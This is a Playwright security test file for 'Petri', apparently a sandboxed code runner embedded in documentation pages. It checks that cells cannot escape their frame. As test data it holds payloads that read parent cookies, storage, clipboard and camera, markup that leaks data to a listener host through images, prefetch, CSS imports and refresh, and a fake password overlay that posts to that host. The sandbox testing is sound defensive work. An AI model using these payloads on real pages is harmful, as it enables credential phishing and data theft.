import { readFile } from 'node:fs/promises';
import { loadPetri, runIn, STAGE } from '../../fixtures/docs-page.ts';
import { documentExits, escape, exits, leading, pythonExits } from '../../fixtures/exits.ts';
import { expect, expectRefused, foundIn, Listener, test, trying } from '../../fixtures/threats.ts';

test.describe.configure({ mode: 'default' });

const HELLO_C = '#include <stdio.h>\nint main(void) { puts("c"); }\n';

test('threat 20 docs reader: a cell reaches nothing of the page that shows it', async ({
  page,
  docs,
  site,
}) => {
  const attempts = {
    document: `parent.document.title`,
    'top document': `top.document.cookie`,
    'parent storage': `parent.localStorage.session`,
    'own storage': `localStorage.length`,
    cookies: `document.cookie`,
    'cookie store': `(await parent.cookieStore.getAll()).length`,
    'top address': `top.location.href = 'about:blank'`,
    'parent address': `parent.location.replace('about:blank')`,
    'address read': `parent.location.href`,
    popup: `open('about:blank').location`,
    'link to the top': `const a = document.createElement('a'); a.href = 'about:blank'; a.target = '_top'; document.body.append(a); a.click(); return new Promise(() => {})`,
    dialog: `if (prompt('Password?') === null) throw new Error('none')`,
    clipboard: `await navigator.clipboard.readText()`,
    camera: `await navigator.mediaDevices.getUserMedia({ video: true })`,
    position: `await new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))`,
    'full screen': `await document.documentElement.requestFullscreen()`,
    opener: `opener.document.title`,
    siblings: `parent.frames[0].document.title + parent.frames[1].document.title`,
    eval: `(0, eval)('1')`,
    frame: `const frame = document.createElement('iframe'); frame.srcdoc = '<p>'; document.body.append(frame); await new Promise((r) => (frame.onload = r)); frame.contentWindow.document.title`,
  };
  await page.goto(docs.page('api', STAGE));
  await page.evaluate(() => {
    localStorage.setItem('session', 'secret');
    document.cookie = 'session=secret';
  });
  await loadPetri(page, site);
  const address = page.url();
  const pages = page.context().pages().length;
  const shown = await runIn(page, 'html', `<p>cell</p><script type="module">${trying(attempts)}</script>`);
  expectRefused(foundIn(shown), Object.keys(attempts));
  const worker = await runIn(page, 'javascript', trying(attempts));
  expectRefused(foundIn(worker), Object.keys(attempts));
  expect(page.url()).toBe(address);
  expect(page.context().pages()).toHaveLength(pages);
  expect(await runIn(page, 'javascript', `console.log('next')`)).toBe('exited\nnext\n');
});

test('threat 21 docs reader: nothing that a cell knows gets out, by any of the ways there are', async ({
  petri,
  page,
  runs,
  listener,
  seen,
}) => {
  const out = exits(listener.host);
  const worker = await runs.run({ language: 'javascript', source: trying(out) });
  expectRefused(foundIn(worker), Object.keys(out));
  const python = await runs.run({
    language: 'python',
    source: pythonExits(listener.host),
    limits: { timeMs: 60_000 },
  });
  expectRefused(foundIn(python), ['fetch', 'WebSocket', 'urllib', 'sockets', 'open_url']);
  expect(listener.heard).toEqual([]);

  const all = { ...out, ...documentExits(listener.host, listener.packetHost) };
  const tried = `${escape(listener.packetHost)}<script type="module">${trying(all)}</script>`;
  await petri.openCell({ language: 'html', source: tried, limits: { timeMs: 20_000 } });
  await petri.run();
  await expect(petri.output).toContainText('found');
  // What found no event to wait for is silent: whoever waits outside tells.
  expectRefused(foundIn(await petri.outputText()), Object.keys(all));

  for (const way of leading(listener.host).slice(0, 1)) {
    const source = `<script>${way}\n</script>`;
    await petri.openCell({ language: 'html', source, limits: { timeMs: 1_500 } });
    await petri.run();
  }
  // Another one: a browser uses connections again.
  const display = await Listener.open();
  const markup = `<meta http-equiv="refresh" content="0;url=http://${display.host}/?shown-refresh"><link rel="preconnect" href="http://${display.host}"><link rel="prefetch" href="http://${display.host}/?shown-prefetch"><img src="http://${display.host}/?shown"><style>@import 'http://${display.host}/?shown-style'; p { background: url(http://${display.host}/?shown-url) }</style><p>shown</p><a href="http://${display.host}/?away">away</a><iframe src="http://${display.host}/?shown-frame"></iframe><video poster="http://${display.host}/?poster" src="http://${display.host}/?video"></video><svg><image href="http://${display.host}/?svg"/></svg>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="http://${display.host}/?image" width="9" height="9"/><style>@import url(http://${display.host}/?svg-style)</style></svg>`;
  await petri.openCell({
    language: 'javascript',
    source: `petri.display('text/html', ${JSON.stringify(markup)});
petri.display('image/svg+xml', ${JSON.stringify(svg)});
console.log('displayed');`,
  });
  expect(await petri.run()).toBe('exited 0');
  await page.frameLocator('iframe[title="HTML from the program"]').getByText('away').click();
  await page.waitForTimeout(1_000);
  expect(display.heard).toEqual([]);
  display.close();
  expectOnlyConnections(listener);
  expect(await petri.run()).toBe('exited 0');
  // What was refused is on the browser's console.
  petri.problems.length = 0;
  petri.requests.length = 0;
  seen.refusals.length = 0;
});

/**
 * No request, no packet. Browsers connect to where a document would lead itself before they refuse it, so that a host's name can
 * tell something: not defended for HTML cells, see public/docs/security.md.
 */
function expectOnlyConnections(listener: Listener): void {
  expect(listener.heard.filter((each) => each !== 'a connection')).toEqual([]);
}

/** The policy that public/docs/security.md gives to pages that use Petri. */
async function documentedPolicy(site: string): Promise<string> {
  const page = await readFile(new URL('../../../public/docs/security.md', import.meta.url), 'utf8');
  const policy = /```\n(default-src [^`]+)```/.exec(page)?.[1];
  if (policy === undefined) throw new Error('no policy is documented');
  return policy.replaceAll(/\s+/g, ' ').replaceAll('https://play.example.org', new URL(site).origin);
}

test('threat 21 docs reader: under the policy that the documentation gives, Petri works and no cell leads its frame away', async ({
  page,
  docs,
  site,
  listener,
  seen,
}) => {
  await page.goto(docs.page('policy', STAGE, { policy: await documentedPolicy(site) }));
  await loadPetri(page, site);
  expect(await runIn(page, 'c', HELLO_C)).toBe('exited\nc\n');
  expect(await runIn(page, 'html', '<script>console.log("c")</script>')).toBe('exited\nc\n');
  const ways = leading(listener.host).map((way) => runIn(page, 'html', `<script>${way}\n</script>`, 1_500));
  await Promise.all(ways);
  expect(await runIn(page, 'javascript', 'console.log("c")')).toBe('exited\nc\n');
  expectOnlyConnections(listener);
  // The frames that were led away, and the picture of the page itself.
  expect(seen.refusals.filter((each) => !/^(?:frame-src http|img-src data)/.test(each))).toEqual([]);
  seen.refusals.length = 0;
});

test('threat 22 docs reader: what a cell draws stays in its pane, and what is typed into it goes nowhere', async ({
  petri,
  page,
  listener,
}) => {
  const html = `<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">
<form action="http://${listener.host}/?password" method="post"><label>Petri password <input name="p" type="password"></label><button>Sign in</button></form>
<p style="height:50000px">Your session has ended.</p></div>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="50000" height="50000" style="position:fixed;inset:0"><rect width="50000" height="50000" fill="red"/></svg>`;
  await petri.openCell({
    language: 'javascript',
    source: `petri.display('text/html', ${JSON.stringify(html)});
petri.display('image/svg+xml', ${JSON.stringify(svg)}, { metadata: { alt: 'Petri: sign in' } });
console.log('drawn');`,
  });
  expect(await petri.run()).toBe('exited 0');
  const frame = page.frameLocator('iframe[title="HTML from the program"]');
  await frame.getByLabel('Petri password').fill('secret');
  await frame.getByRole('button', { name: 'Sign in' }).click();
  const box = await page.locator('iframe[title="HTML from the program"]').boundingBox();
  expect(box?.height).toBeLessThanOrEqual(800);
  // Nothing of it lies over what is the page's own.
  const covered = await page.evaluate(() => {
    const own = [...document.querySelectorAll('header button, header a, article button, select')];
    return own.flatMap((element) => {
      const { left, top, width, height } = element.getBoundingClientRect();
      if (width === 0 || top < 0 || top + height > innerHeight) return [];
      const front = document.elementFromPoint(left + width / 2, top + height / 2);
      return front?.matches('iframe, img, canvas') === true ? [element.outerHTML.slice(0, 80)] : [];
    });
  });
  expect(covered).toEqual([]);
  expect(listener.heard).toEqual([]);
  expect(await petri.run()).toBe('exited 0');
  expect(await petri.outputText()).toBe('drawn\n');
  petri.problems.length = 0;
});
